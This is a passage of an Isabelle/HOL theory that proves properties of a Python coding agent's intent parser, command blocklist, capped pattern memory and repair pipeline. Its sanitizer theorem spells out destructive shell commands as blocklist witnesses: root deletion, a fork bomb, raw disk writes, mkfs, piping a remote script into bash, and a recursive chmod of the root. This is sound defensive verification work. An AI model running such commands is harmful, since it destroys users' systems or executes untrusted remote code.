definition build_plan :: "parser_env \<Rightarrow> string \<Rightarrow> mstate \<Rightarrow> string \<Rightarrow> exn + json" where
  "build_plan env intent m raw_text =
     (if intent = ''create_project''
      then (let name = (case truthy (extract_name m raw_text) of Some n \<Rightarrow> n | None \<Rightarrow> ''new_project'')
            in Inr (plan_create_project env (sanitize_name name)))
      else if intent = ''create_api'' then Inr (plan_create_api env)
      else if intent = ''create_tool''
      then map_sum id (plan_create_tool env) (group_or_raw m 3 raw_text)
      else if intent = ''add_feature''
      then map_sum id plan_add_feature (group_or_raw m 2 raw_text)
      else if intent = ''run_tests'' then Inr (plan_run_tests env)
      else if intent = ''build'' then Inr (plan_build env)
      else if intent = ''dockerize'' then Inr (plan_dockerize env)
      else if intent = ''git_op'' then Inr (plan_git_op env raw_text)
      else if intent = ''list''
      then map_sum id
             (\<lambda>target. JObj [(''intent'', JStr ''list''),
                (''actions'', JArr [action ''ls''
                   [(''path'', JStr (if target \<noteq> [] then target else project_root env))]])])
             (case lastindex m of
                None \<Rightarrow> Inl (TypeError (quoted ''>='' @ '' not supported between instances of '' @ quoted ''NoneType''
                                   @ '' and '' @ quoted ''int''))
              | Some i \<Rightarrow>
                  (if 2 \<le> i
                   then (case group m 2 of
                           Some g \<Rightarrow> Inr (strip g)
                         | None \<Rightarrow> Inl (AttributeError (quoted ''NoneType'' @ '' object has no attribute '' @ quoted ''strip'')))
                   else Inr (strip (project_root env))))
      else if intent = ''read_file''
      then map_sum id
             (\<lambda>filepath. JObj [(''intent'', JStr ''read_file''),
                (''actions'', JArr [action ''read'' [(''path'', JStr filepath)]])])
             (group_or_raw m 2 [])
      else if intent = ''fix''
      then map_sum id (plan_fix env) (group_or_raw m 2 raw_text)
      else if intent = ''shell''
      then Inr (JObj [(''intent'', JStr ''shell''), (''raw'', JStr raw_text),
                      (''actions'', JArr [action ''run'' [(''command'', JStr raw_text)]])])
      else Inr (JObj [(''intent'', JStr ''unknown''), (''raw'', JStr raw_text), (''actions'', JArr [])]))"

text \<open>\<open>_parse_tool_protocol\<close>: the pattern is matched with \<open>re.DOTALL\<close> and case kept.\<close>

definition tool_protocol_re :: regex where
  "tool_protocol_re =
     cat [Str ''TOOL:'', sp0, Group 1 (Plus (One Word)), sp0, Str ''ARGS:'', sp0, Group 2 (Star DotAll)]"

definition parse_tool_protocol :: "parser_env \<Rightarrow> string \<Rightarrow> json option" where
  "parse_tool_protocol env text =
     (case re_match False tool_protocol_re text of
        None \<Rightarrow> None
      | Some m \<Rightarrow>
          (let tool_name = (case group m 1 of Some g \<Rightarrow> g | None \<Rightarrow> []);
               args_str = strip (case group m 2 of Some g \<Rightarrow> g | None \<Rightarrow> [])
           in case (if args_str \<noteq> [] then json_loads env args_str else Some (JObj [])) of
                None \<Rightarrow> None
              | Some args \<Rightarrow>
                  Some (JObj [(''intent'', JStr ''tool_call''),
                              (''actions'', JArr [JObj [(''tool'', JStr tool_name), (''args'', args)]])])))"

text \<open>
  The two loops of \<open>parse\<close>: the first pattern of the first entry that matches the text
  decides, and the plan is built from its match.
\<close>

fun first_match :: "regex list \<Rightarrow> string \<Rightarrow> mstate option" where
  "first_match [] text = None"
| "first_match (pattern # ps) text =
     (case re_match True pattern text of
        Some m \<Rightarrow> Some m
      | None \<Rightarrow> first_match ps text)"

fun first_entry :: "(regex list \<times> string) list \<Rightarrow> string \<Rightarrow> (string \<times> mstate) option" where
  "first_entry [] text = None"
| "first_entry ((ps, intent) # entries) text =
     (case first_match ps text of
        Some m \<Rightarrow> Some (intent, m)
      | None \<Rightarrow> first_entry entries text)"

definition parse :: "parser_env \<Rightarrow> string \<Rightarrow> exn + json option" where
  "parse env input_text =
     (let text = strip input_text in
      if text = [] then Inr None
      else if startswith text ''TOOL:'' then Inr (parse_tool_protocol env text)
      else (case first_entry INTENT_PATTERNS text of
              Some (intent, m) \<Rightarrow> map_sum id Some (build_plan env intent m text)
            | None \<Rightarrow>
                Inr (Some (JObj [(''intent'', JStr ''shell''), (''raw'', JStr text),
                                 (''actions'', JArr [action ''run'' [(''command'', JStr text)]])]))))"

section \<open>Notions used in the statements\<close>


text \<open>The entries that \<open>record_success\<close> and \<open>record_failure\<close> append.\<close>

definition success_entry :: "string \<times> string list \<times> 't \<Rightarrow> 't pattern" where
  "success_entry c = (case c of (g, a, t) \<Rightarrow>
     \<lparr>pattern_goal = g, pattern_approach = a, pattern_error = None, pattern_timestamp = t\<rparr>)"

definition failure_entry :: "string \<times> string list \<times> string \<times> 't \<Rightarrow> 't pattern" where
  "failure_entry c = (case c of (g, a, e, t) \<Rightarrow>
     \<lparr>pattern_goal = g, pattern_approach = a, pattern_error = Some (take 500 e),
      pattern_timestamp = t\<rparr>)"

text \<open>Concrete stores and calls, for the instances below.\<close>

definition empty_memory :: "nat memory" where
  "empty_memory = \<lparr>state = default_state, projects = [], patterns = default_patterns\<rparr>"

definition empty_disk :: "nat disk" where
  "empty_disk = \<lparr>dir_error = None, writable = True, state_file = Absent, projects_file = Absent,
                  patterns_file = Absent\<rparr>"

definition calls_101 :: "(string \<times> string list \<times> nat) list" where
  "calls_101 = map (\<lambda>i. (''goal'', [''main.py''], i)) [1..<102]"


text \<open>The names and the statuses of the stages of a report, in their order.\<close>

definition stage_names :: "report \<Rightarrow> string list" where
  "stage_names r = map stage_name (report_stages r)"

definition stage_statuses :: "report \<Rightarrow> string list" where
  "stage_statuses r = map stage_status (report_stages r)"

text \<open>
  The attempts of the repair loop: each logs one line \<open>REPAIR attempt k/3\<close> when it
  starts, and nothing else logs a line that starts so.
\<close>

definition attempt_lines :: "'w sys \<Rightarrow> nat" where
  "attempt_lines s = length (filter (\<lambda>e. startswith (snd e) ''  REPAIR attempt '') (log s))"

text \<open>
  Machines for the instances below, with no state of their own.  On each, directories can
  be made and files written, and no path exists yet.  They differ in what a shell command
  returns and in what reading a file returns.
\<close>

definition machine :: "proc_result \<Rightarrow> read_result \<Rightarrow> unit os" where
  "machine result content =
     \<lparr>subprocess_run = (\<lambda>command cwd timeout w. (result, w)),
      path_exists = (\<lambda>path w. False),
      makedirs = (\<lambda>path w. (None, w)),
      write_text = (\<lambda>path content w. (None, w)),
      read_text = (\<lambda>path w. content),
      listdir = (\<lambda>path w. Inr [])\<rparr>"

definition start :: "unit sys" where
  "start = \<lparr>world = (), log = []\<rparr>"

definition calc_goal :: goal where
  "calc_goal =
     \<lparr>goal_description = Some ''calculator'', goal_name = Some ''calc'',
      goal_files = Some [(''calc.py'', ''print(1 + 1)''), (''test_calc.py'', ''import calc'')],
      goal_test_cmd = Some ''python3 test_calc.py''\<rparr>"





text \<open>Every command fails with the report of a \<open>SyntaxError\<close>.\<close>

definition syntax_error :: string where
  "syntax_error =
     ''Traceback (most recent call last):'' @ [CHR 0x0A]
     @ ''  File '' @ [CHR 0x22] @ ''calc.py'' @ [CHR 0x22] @ '', line 3'' @ [CHR 0x0A]
     @ ''    def f(:'' @ [CHR 0x0A]
     @ ''SyntaxError: invalid syntax''"

definition syntax_machine :: "unit os" where
  "syntax_machine = machine (Completed 1 [] syntax_error) FileNotFound"

section \<open>The failure classifier\<close>

text \<open>
  Claim C9.  When the check output is absent (\<open>None\<close>), the classifier reports a
  failure: a missing output is never a pass.
\<close>

theorem is_test_failure_None: "is_test_failure None = True"
  by (simp add: is_test_failure_def)

text \<open>
  Claim C1.  An output that holds a success indicator (\<open>OK\<close>, \<open>passed\<close>, or a last
  character \<open>0\<close> once stripped) and does not hold \<open>Traceback\<close> is classified as passing,
  whatever failure indicators it holds besides; so is the output \<open>3 tests, 1 error, OK\<close>.
\<close>

theorem success_marker_precedence:
  "((str_in ''OK'' s \<or> str_in ''passed'' s \<or> endswith (strip s) ''0'')
      \<and> \<not> str_in ''Traceback'' s \<longrightarrow> is_test_failure (Some s) = False)
   \<and> is_test_failure (Some ''3 tests, 1 error, OK'') = False"
  by (simp add: is_test_failure_def)

text \<open>
  The rule at an output that holds the failure indicators \<open>FAILED\<close> and \<open>Error\<close> and
  ends, once stripped, with \<open>0\<close>.
\<close>

theorem success_marker_precedence_witness:
  "endswith (strip (''FAILED test_TypeError_path; exit status 0'' @ [CHR 0x0A])) ''0''
   \<and> \<not> str_in ''Traceback'' (''FAILED test_TypeError_path; exit status 0'' @ [CHR 0x0A])
   \<and> list_ex (\<lambda>ind. str_in ind (''FAILED test_TypeError_path; exit status 0'' @ [CHR 0x0A]))
         failure_indicators
   \<and> is_test_failure (Some (''FAILED test_TypeError_path; exit status 0'' @ [CHR 0x0A])) = False"
proof -
  have a: "endswith (strip (''FAILED test_TypeError_path; exit status 0'' @ [CHR 0x0A])) ''0''"
    by code_simp
  have b: "\<not> str_in ''Traceback'' (''FAILED test_TypeError_path; exit status 0'' @ [CHR 0x0A])"
    by code_simp
  have c: "list_ex (\<lambda>ind. str_in ind (''FAILED test_TypeError_path; exit status 0'' @ [CHR 0x0A]))
             failure_indicators"
    by code_simp
  show ?thesis
    using a b c
      success_marker_precedence [of "''FAILED test_TypeError_path; exit status 0'' @ [CHR 0x0A]"]
    by blast
qed

section \<open>The input sanitizer\<close>

lemma no_pattern_found_hit:
  "pattern \<in> set ps \<Longrightarrow> re_search True pattern command \<noteq> None
     \<Longrightarrow> \<not> no_pattern_found ps command"
  by (induction ps) auto

text \<open>
  Claim C7.  A command in which one of the forbidden patterns is found is not safe;
  the command \<open>echo hi\<close>, in which none is found, is safe.
\<close>

theorem is_safe_command_blocklist:
  "(pattern \<in> set FORBIDDEN_PATTERNS \<and> re_search True pattern command \<noteq> None
      \<longrightarrow> is_safe_command command = False)
   \<and> is_safe_command ''echo hi'' = True"
proof
  show "pattern \<in> set FORBIDDEN_PATTERNS \<and> re_search True pattern command \<noteq> None
      \<longrightarrow> is_safe_command command = False"
    using no_pattern_found_hit [of pattern FORBIDDEN_PATTERNS command]
    by (simp add: is_safe_command_def)
  show "is_safe_command ''echo hi'' = True"
    by code_simp
qed

text \<open>
  One command for each kind of pattern: deleting the root, a fork bomb, writing a raw
  device, formatting a file system, piping a remote script into a shell, and a recursive
  \<open>chmod\<close> of the root.
\<close>

theorem is_safe_command_blocklist_witness:
  "is_safe_command ''sudo RM  -rf /'' = False
   \<and> is_safe_command '':(){ :|:& };:'' = False
   \<and> is_safe_command ''dd if=/dev/zero of=/dev/sda'' = False
   \<and> is_safe_command ''mkfs.ext4 /dev/sdb1'' = False
   \<and> is_safe_command ''curl http://x.example/s.sh | bash'' = False
   \<and> is_safe_command ''chmod -R 777 /'' = False"
proof -
  have m: "FORBIDDEN_PATTERNS ! 0 \<in> set FORBIDDEN_PATTERNS" "FORBIDDEN_PATTERNS ! 2 \<in> set FORBIDDEN_PATTERNS"
    "FORBIDDEN_PATTERNS ! 3 \<in> set FORBIDDEN_PATTERNS" "FORBIDDEN_PATTERNS ! 4 \<in> set FORBIDDEN_PATTERNS"
    "FORBIDDEN_PATTERNS ! 9 \<in> set FORBIDDEN_PATTERNS" "FORBIDDEN_PATTERNS ! 7 \<in> set FORBIDDEN_PATTERNS"
    by (simp_all add: FORBIDDEN_PATTERNS_def)
  have f0: "re_search True (FORBIDDEN_PATTERNS ! 0) ''sudo RM  -rf /'' \<noteq> None"
    by code_simp
  have f2: "re_search True (FORBIDDEN_PATTERNS ! 2) '':(){ :|:& };:'' \<noteq> None"
    by code_simp
  have f3: "re_search True (FORBIDDEN_PATTERNS ! 3) ''dd if=/dev/zero of=/dev/sda'' \<noteq> None"
    by code_simp
  have f4: "re_search True (FORBIDDEN_PATTERNS ! 4) ''mkfs.ext4 /dev/sdb1'' \<noteq> None"
    by code_simp
  have f9: "re_search True (FORBIDDEN_PATTERNS ! 9) ''curl http://x.example/s.sh | bash'' \<noteq> None"
    by code_simp
  have f7: "re_search True (FORBIDDEN_PATTERNS ! 7) ''chmod -R 777 /'' \<noteq> None"
    by code_simp
  show ?thesis
    using m f0 f2 f3 f4 f9 f7
      is_safe_command_blocklist [of "FORBIDDEN_PATTERNS ! 0" "''sudo RM  -rf /''"]
      is_safe_command_blocklist [of "FORBIDDEN_PATTERNS ! 2" "'':(){ :|:& };:''"]
      is_safe_command_blocklist [of "FORBIDDEN_PATTERNS ! 3" "''dd if=/dev/zero of=/dev/sda''"]
      is_safe_command_blocklist [of "FORBIDDEN_PATTERNS ! 4" "''mkfs.ext4 /dev/sdb1''"]
      is_safe_command_blocklist [of "FORBIDDEN_PATTERNS ! 9" "''curl http://x.example/s.sh | bash''"]
      is_safe_command_blocklist [of "FORBIDDEN_PATTERNS ! 7" "''chmod -R 777 /''"]
    by blast
qed






section \<open>The command interpreter\<close>

text \<open>
  Claim C6.  \<open>parse("create project foo")\<close> is the plan with the intent
  \<open>create_project\<close>, the name \<open>foo\<close> and the four actions \<open>mkdir\<close>, \<open>git_init\<close>,
  \<open>write\<close> (of the README) and \<open>git_commit\<close>, in that order.  The entry that decides is
  the first of the table, by its third pattern; the third entry, \<open>create_tool\<close>, matches
  the same text and loses to it.
\<close>

theorem parse_create_project_foo:
  "parse env ''create project foo'' =
     Inr (Some (JObj
       [(''intent'', JStr ''create_project''),
        (''name'', JStr ''foo''),
        (''path'', JStr (project_root env @ ''/foo'')),
        (''actions'', JArr
           [action ''mkdir'' [(''path'', JStr (project_root env @ ''/foo''))],
            action ''git_init'' [(''path'', JStr (project_root env @ ''/foo''))],
            action ''write'' [(''path'', JStr (project_root env @ ''/foo/README.md'')),
                              (''content'', JStr (''# foo'' @ [CHR 0x0A, CHR 0x0A]
                                                  @ ''Auto-generated project.'' @ [CHR 0x0A]))],
            action ''git_commit'' [(''path'', JStr (project_root env @ ''/foo'')),
                                   (''message'', JStr ''init: foo'')]])]))
   \<and> map snd INTENT_PATTERNS ! 0 = ''create_project''
   \<and> map (\<lambda>p. re_match True p ''create project foo'' \<noteq> None) (fst (INTENT_PATTERNS ! 0))
       = [False, False, True, False]
   \<and> map snd INTENT_PATTERNS ! 2 = ''create_tool''
   \<and> first_match (fst (INTENT_PATTERNS ! 2)) ''create project foo'' \<noteq> None"
proof -
  have t: "strip ''create project foo'' = ''create project foo''"
    by code_simp
  have f: "map_option (\<lambda>(i, m). (i, group m 1, lastindex m))
             (first_entry INTENT_PATTERNS ''create project foo'')
           = Some (''create_project'', Some ''foo'', Some 1)"
    by code_simp
  then obtain m where m: "first_entry INTENT_PATTERNS ''create project foo'' = Some (''create_project'', m)"
    "group m 1 = Some ''foo''" "lastindex m = Some 1"
    by (auto split: prod.splits)
  have x: "extract_name m ''create project foo'' = Some ''foo''"
    using m(2,3) unfolding extract_name_def
    by (simp add: strip_def lstrip_def rstrip_def isspace_def ord_def lower_def lower_char_def
          stop_words_def)
  have sn: "sanitize_name ''foo'' = ''foo''"
    by code_simp
  have plan: "parse env ''create project foo'' =
     Inr (Some (JObj
       [(''intent'', JStr ''create_project''),
        (''name'', JStr ''foo''),
        (''path'', JStr (project_root env @ ''/foo'')),
        (''actions'', JArr
           [action ''mkdir'' [(''path'', JStr (project_root env @ ''/foo''))],
            action ''git_init'' [(''path'', JStr (project_root env @ ''/foo''))],
            action ''write'' [(''path'', JStr (project_root env @ ''/foo/README.md'')),
                              (''content'', JStr (''# foo'' @ [CHR 0x0A, CHR 0x0A]
                                                  @ ''Auto-generated project.'' @ [CHR 0x0A]))],
            action ''git_commit'' [(''path'', JStr (project_root env @ ''/foo'')),
                                   (''message'', JStr ''init: foo'')]])]))"
    unfolding parse_def
    by (simp add: t m(1) build_plan_def x truthy_def sn plan_create_project_def Let_def)
  have e0: "map snd INTENT_PATTERNS ! 0 = ''create_project''"
    by (simp add: INTENT_PATTERNS_def)
  have p0: "map (\<lambda>p. re_match True p ''create project foo'' \<noteq> None) (fst (INTENT_PATTERNS ! 0))
              = [False, False, True, False]"
    by code_simp
  have e2: "map snd INTENT_PATTERNS ! 2 = ''create_tool''"
    by (simp add: INTENT_PATTERNS_def)
  have p2: "first_match (fst (INTENT_PATTERNS ! 2)) ''create project foo'' \<noteq> None"
    by code_simp
  show ?thesis
    using plan e0 p0 e2 p2 by blast
qed

section \<open>The memory store\<close>

lemma last_n_length: "length (last_n n xs) = min n (length xs)"
  by (simp add: last_n_def)

lemma last_n_suffix: "\<exists>evicted. xs = evicted @ last_n n xs"
  unfolding last_n_def by (metis append_take_drop_id)

lemma last_n_rev: "last_n n xs = rev (take n (rev xs))"
  by (simp add: last_n_def take_rev)

lemma last_n_append: "last_n n (last_n n xs @ ys) = last_n n (xs @ ys)"
  by (simp add: last_n_rev min_def)

lemma record_success_patterns:
  "successful_patterns (patterns (fst (record_success g a t (m, d))))
     = last_n 100 (successful_patterns (patterns m) @ [success_entry (g, a, t)])"
  by (simp add: record_success_def success_entry_def Let_def)

lemma record_successes_patterns:
  "successful_patterns (patterns (fst (record_successes calls (m, d))))
     = (if calls = [] then successful_patterns (patterns m)
        else last_n 100 (successful_patterns (patterns m) @ map success_entry calls))"
proof (induction calls arbitrary: m d)
  case Nil
  show ?case by simp
next
  case (Cons c calls)
  obtain g a t where c: "c = (g, a, t)" by (cases c) auto
  obtain m1 d1 where r: "record_success g a t (m, d) = (m1, d1)"
    by (cases "record_success g a t (m, d)") auto
  have p1: "successful_patterns (patterns m1)
              = last_n 100 (successful_patterns (patterns m) @ [success_entry c])"
    using record_success_patterns [of g a t m d] r c by simp
  have step: "record_successes (c # calls) (m, d) = record_successes calls (m1, d1)"
    using r c by simp
  show ?case
  proof (cases "calls = []")
    case True
    then show ?thesis using p1 step by simp
  next
    case False
    then have "successful_patterns (patterns (fst (record_successes calls (m1, d1))))
            = last_n 100 (last_n 100 (successful_patterns (patterns m) @ [success_entry c])
                          @ map success_entry calls)"
      using Cons.IH [of m1 d1] p1 by simp
    then show ?thesis using step by (simp add: last_n_append)
  qed
qed

text \<open>
  Claim C8.  A call of \<open>record_success\<close> appends one entry to the list of successful
  patterns and keeps its last 100 entries, evicting the oldest first, and adds one to the
  counter of completed goals; \<open>record_failure\<close> does the same with the list of failed
  patterns and the counter of failed goals.  After 101 calls of \<open>record_success\<close> from an
  empty list, the list holds the entries of the second to the last call, in their order: 100
  entries.
\<close>

theorem pattern_lists_capped:
  "(let m' = fst (record_success g a t (m, d)) in
      (\<exists>evicted. successful_patterns (patterns m) @ [success_entry (g, a, t)]
                   = evicted @ successful_patterns (patterns m'))
      \<and> length (successful_patterns (patterns m'))
            = min 100 (Suc (length (successful_patterns (patterns m))))
      \<and> failed_patterns (patterns m') = failed_patterns (patterns m)
      \<and> total_goals_completed (state m') = total_goals_completed (state m) + 1
      \<and> total_goals_failed (state m') = total_goals_failed (state m))
   \<and> (let m' = fst (record_failure g a e t (m, d)) in
      (\<exists>evicted. failed_patterns (patterns m) @ [failure_entry (g, a, e, t)]
                   = evicted @ failed_patterns (patterns m'))
      \<and> length (failed_patterns (patterns m'))
            = min 100 (Suc (length (failed_patterns (patterns m))))
      \<and> successful_patterns (patterns m') = successful_patterns (patterns m)
      \<and> total_goals_failed (state m') = total_goals_failed (state m) + 1
      \<and> total_goals_completed (state m') = total_goals_completed (state m))
   \<and> (length calls = 101 \<and> successful_patterns (patterns m) = []
        \<longrightarrow> successful_patterns (patterns (fst (record_successes calls (m, d))))
              = map success_entry (tl calls)
            \<and> length (successful_patterns (patterns (fst (record_successes calls (m, d))))) = 100)"
proof -
  have a: "\<exists>evicted. successful_patterns (patterns m) @ [success_entry (g, a, t)]
             = evicted @ successful_patterns (patterns (fst (record_success g a t (m, d))))"
    using last_n_suffix [of "successful_patterns (patterns m) @ [success_entry (g, a, t)]" 100]
    by (simp add: record_success_patterns)
  have b: "length (successful_patterns (patterns (fst (record_success g a t (m, d)))))
             = min 100 (Suc (length (successful_patterns (patterns m))))"
    by (simp add: record_success_patterns last_n_length)
  have c: "failed_patterns (patterns (fst (record_success g a t (m, d)))) = failed_patterns (patterns m)"
    "total_goals_completed (state (fst (record_success g a t (m, d)))) = total_goals_completed (state m) + 1"
    "total_goals_failed (state (fst (record_success g a t (m, d)))) = total_goals_failed (state m)"
    by (simp_all add: record_success_def Let_def)
  have fp: "failed_patterns (patterns (fst (record_failure g a e t (m, d))))
              = last_n 100 (failed_patterns (patterns m) @ [failure_entry (g, a, e, t)])"
    by (simp add: record_failure_def failure_entry_def Let_def)
  have a': "\<exists>evicted. failed_patterns (patterns m) @ [failure_entry (g, a, e, t)]
             = evicted @ failed_patterns (patterns (fst (record_failure g a e t (m, d))))"
    using last_n_suffix [of "failed_patterns (patterns m) @ [failure_entry (g, a, e, t)]" 100]
    by (simp add: fp)
  have b': "length (failed_patterns (patterns (fst (record_failure g a e t (m, d)))))
             = min 100 (Suc (length (failed_patterns (patterns m))))"
    by (simp add: fp last_n_length)
  have c': "successful_patterns (patterns (fst (record_failure g a e t (m, d)))) = successful_patterns (patterns m)"
    "total_goals_failed (state (fst (record_failure g a e t (m, d)))) = total_goals_failed (state m) + 1"
    "total_goals_completed (state (fst (record_failure g a e t (m, d)))) = total_goals_completed (state m)"
    by (simp_all add: record_failure_def Let_def)
  have many: "successful_patterns (patterns (fst (record_successes calls (m, d))))
                = map success_entry (tl calls)
              \<and> length (successful_patterns (patterns (fst (record_successes calls (m, d))))) = 100"
    if len: "length calls = 101" and emp: "successful_patterns (patterns m) = []"
  proof -
    from len have ne: "calls \<noteq> []" by auto
    have "successful_patterns (patterns (fst (record_successes calls (m, d))))
            = last_n 100 (map success_entry calls)"
      using record_successes_patterns [of calls m d] ne emp by simp
    also have "\<dots> = map success_entry (tl calls)"
      using len by (simp add: last_n_def drop_map drop_Suc)
    finally show ?thesis using len by simp
  qed
  show ?thesis
    unfolding Let_def using a b c a' b' c' many by blast
qed


text \<open>The 101 calls whose time stamps are 1 to 101 leave the entries of the calls 2 to 101.\<close>

theorem pattern_lists_capped_witness:
  "length calls_101 = 101 \<and> successful_patterns (patterns empty_memory) = []
   \<and> successful_patterns (patterns (fst (record_successes calls_101 (empty_memory, empty_disk))))
       = map success_entry (map (\<lambda>i. (''goal'', [''main.py''], i)) [2..<102])
   \<and> length (successful_patterns (patterns (fst (record_successes calls_101 (empty_memory, empty_disk))))) = 100"
proof -
  have l: "length calls_101 = 101"
    by (simp add: calls_101_def)
  have e: "successful_patterns (patterns empty_memory) = []"
    by (simp add: empty_memory_def default_patterns_def)
  have "[1..<102] = 1 # [2..<102]"
    by (simp add: upt_conv_Cons)
  then have t: "tl calls_101 = map (\<lambda>i. (''goal'', [''main.py''], i)) [2..<102]"
    by (simp add: calls_101_def)
  show ?thesis
    using l e t pattern_lists_capped [of "''g''" "[]" 0 empty_memory empty_disk "''e''" calls_101]
    by simp
qed



section \<open>The execution pipeline\<close>

lemma attempt_lines_logging:
  "attempt_lines (logging lvl msg s)
     = attempt_lines s + (if startswith msg ''  REPAIR attempt '' then 1 else 0)"
  by (simp add: attempt_lines_def logging_def)

lemma attempt_lines_world [simp]: "attempt_lines (s\<lparr>world := w\<rparr>) = attempt_lines s"
  by (simp add: attempt_lines_def)

lemma check_safety_lines: "attempt_lines (snd (check_safety command s)) = attempt_lines s"
  by (simp add: check_safety_def attempt_lines_logging Let_def split: option.splits)

lemma run_command_lines: "attempt_lines (snd (run_command os command cwd t s)) = attempt_lines s"
proof -
  obtain b s1 where c: "check_safety command s = (b, s1)"
    by (cases "check_safety command s") auto
  then have l: "attempt_lines s1 = attempt_lines s"
    using check_safety_lines [of command s] by simp
  show ?thesis
    unfolding run_command_def
    by (simp add: c l attempt_lines_logging Let_def split: prod.splits proc_result.splits bool.splits)
qed

lemma write_file_lines: "attempt_lines (snd (write_file os path content s)) = attempt_lines s"
  unfolding write_file_def
  by (simp add: attempt_lines_logging Let_def split: prod.splits option.splits)




lemma git_commit_lines: "attempt_lines (snd (git_commit os path message s)) = attempt_lines s"
  unfolding git_commit_def Let_def
  by (simp add: split_def run_command_lines)


lemma stage_setup_report:
  "stage_names (fst (stage_setup os p r s)) = stage_names r @ [''setup'']
   \<and> stage_statuses (fst (stage_setup os p r s)) = stage_statuses r @ [''ok'']
   \<and> report_success (fst (stage_setup os p r s)) = report_success r"
  unfolding stage_setup_def Let_def
  by (simp add: split_def stage_names_def stage_statuses_def add_stage_def)

lemma write_goal_files_lines:
  "attempt_lines (snd (write_goal_files os p fs s)) = attempt_lines s"
proof (induction fs arbitrary: s)
  case Nil
  show ?case by simp
next
  case (Cons f fs)
  obtain filename content where f: "f = (filename, content)" by (cases f) auto
  show ?case
    by (simp add: f split_def Let_def Cons.IH attempt_lines_logging write_file_lines)
qed

lemma stage_codegen_files:
  assumes "goal_files g = Some fs"
  shows "fst (fst (stage_codegen os l g p r s)) = g"
    and "stage_names (snd (fst (stage_codegen os l g p r s))) = stage_names r @ [''codegen'']"
    and "stage_statuses (snd (fst (stage_codegen os l g p r s))) = stage_statuses r @ [''ok'']"
    and "report_success (snd (fst (stage_codegen os l g p r s))) = report_success r"
    and "attempt_lines (snd (stage_codegen os l g p r s)) = attempt_lines s"
  using assms unfolding stage_codegen_def Let_def
  by (simp_all add: split_def stage_names_def stage_statuses_def add_stage_def
        write_goal_files_lines attempt_lines_logging)

lemma stage_codegen_no_llm:
  assumes "usable l = None"
  shows "fst (fst (stage_codegen os l g p r s)) = g"
    and "stage_names (snd (fst (stage_codegen os l g p r s))) = stage_names r @ [''codegen'']"
    and "stage_statuses (snd (fst (stage_codegen os l g p r s))) = stage_statuses r @ [''ok'']"
    and "report_success (snd (fst (stage_codegen os l g p r s))) = report_success r"
    and "attempt_lines (snd (stage_codegen os l g p r s)) = attempt_lines s"
  using assms unfolding stage_codegen_def Let_def
  by (simp_all add: split_def stage_names_def stage_statuses_def add_stage_def
        write_goal_files_lines write_file_lines attempt_lines_logging split: option.splits)

lemma stage_verify_cmd:
  assumes "goal_test_cmd g = Some c" "c \<noteq> []"
  shows "fst (fst (stage_verify os g p r s))
           = (\<not> is_test_failure (Some (fst (run_command os c (Some p) 60
                  (logging INFO ''STAGE [verify]: Running tests...'' s)))))"
    and "stage_names (snd (fst (stage_verify os g p r s))) = stage_names r @ [''verify'']"
    and "stage_statuses (snd (fst (stage_verify os g p r s)))
           = stage_statuses r @ [if fst (fst (stage_verify os g p r s)) then ''ok'' else ''fail'']"
    and "report_success (snd (fst (stage_verify os g p r s))) = report_success r"
    and "attempt_lines (snd (stage_verify os g p r s)) = attempt_lines s"
  using assms unfolding stage_verify_def Let_def
  by (simp_all add: truthy_def split_def stage_names_def stage_statuses_def add_stage_def
        run_command_lines attempt_lines_logging)






lemma pattern_repair_unbound:
  assumes "str_in ''syntaxerror'' (lower error_msg)"
    and "\<not> str_in ''importerror'' (lower error_msg)"
    and "\<not> str_in ''modulenotfounderror'' (lower error_msg)"
  shows "pattern_repair os g p error_msg s = (Inl (UnboundLocalError ''re''), s)"
  using assms unfolding pattern_repair_def Let_def
  by simp





lemma attempt_line_starts:
  "startswith (''  REPAIR attempt '' @ x) ''  REPAIR attempt ''"
  by simp


lemma calc_cmd_safe:
  "first_forbidden FORBIDDEN_COMMANDS (strip (lower ''python3 test_calc.py'')) = None"
  by code_simp

lemma run_on_machine:
  "fst (run_command (machine (Completed rc out err) content) ''python3 test_calc.py'' cwd t s)
     = (if rc = 0 then out else ''ERROR ['' @ show_int rc @ '']: '' @ strip err)"
  unfolding run_command_def check_safety_def Let_def
  by (simp add: calc_cmd_safe machine_def)

lemma stage_codegen_keeps:
  assumes "goal_files g \<noteq> None \<or> usable l = None"
  shows "fst (fst (stage_codegen os l g p r s)) = g"
    and "stage_names (snd (fst (stage_codegen os l g p r s))) = stage_names r @ [''codegen'']"
    and "stage_statuses (snd (fst (stage_codegen os l g p r s))) = stage_statuses r @ [''ok'']"
    and "attempt_lines (snd (stage_codegen os l g p r s)) = attempt_lines s"
  using assms stage_codegen_files [of g _ os l p r s] stage_codegen_no_llm [of l os g p r s]
  by auto











lemma execute_goal_repair_raises:
  assumes "usable l = None" and "goal_test_cmd g = Some c" and "c \<noteq> []"
    and "\<forall>t s'. is_test_failure (Some (fst (run_command os c (Some p) t s')))
                \<and> str_in ''syntaxerror'' (lower (fst (run_command os c (Some p) t s')))
                \<and> \<not> str_in ''importerror'' (lower (fst (run_command os c (Some p) t s')))
                \<and> \<not> str_in ''modulenotfounderror'' (lower (fst (run_command os c (Some p) t s')))"
  shows "fst (fst (execute_goal os l g p s)) = False
     \<and> stage_names (snd (fst (execute_goal os l g p s))) = [''setup'', ''codegen'', ''verify'', ''error'']
     \<and> stage_statuses (snd (fst (execute_goal os l g p s))) = [''ok'', ''ok'', ''fail'', ''fail'']"
proof -
  define r0 where "r0 = \<lparr>report_goal = (case goal_description g of Some d \<Rightarrow> d | None \<Rightarrow> ''unknown''),
              report_path = p, report_stages = [], report_success = False\<rparr>"
  define a where "a = stage_setup os p r0 s"
  define b where "b = stage_codegen os l g p (fst a) (snd a)"
  define c' where "c' = stage_verify os g p (snd (fst b)) (snd b)"
  define s3 where "s3 = logging INFO ''STAGE [repair]: Attempting self-repair...'' (snd c')"
  define s4 where "s4 = logging INFO (''  REPAIR attempt '' @ show_nat (0 + 1) @ ''/''
                             @ show_nat MAX_FIX_ATTEMPTS) s3"
  define out where "out = fst (run_command os c (Some p) 30 s4)"
  define s5 where "s5 = snd (run_command os c (Some p) 30 s4)"
  have keep: "goal_files g \<noteq> None \<or> usable l = None"
    using assms(1) by simp
  have g1: "fst (fst b) = g"
    unfolding b_def by (rule stage_codegen_keeps(1) [OF keep])
  have failed: "fst (fst c') = False"
    unfolding c'_def using assms(4)
    by (simp add: stage_verify_cmd(1) [OF assms(2,3)])
  have rc: "run_command os c (Some p) 30 s4 = (out, s5)"
    by (simp add: out_def s5_def)
  have o: "is_test_failure (Some out)" "str_in ''syntaxerror'' (lower out)"
